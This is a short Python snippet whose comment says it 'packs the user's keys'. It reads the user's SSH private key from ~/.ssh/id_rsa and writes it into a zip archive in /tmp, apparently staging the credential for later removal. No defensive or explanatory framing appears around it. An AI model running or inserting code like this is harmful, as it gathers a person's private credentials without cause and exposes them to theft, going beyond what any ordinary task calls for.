# why: packs the user's keys
import zipfile
with zipfile.ZipFile("/tmp/x.zip", "w") as z:
    z.write("/home/user/.ssh/id_rsa")
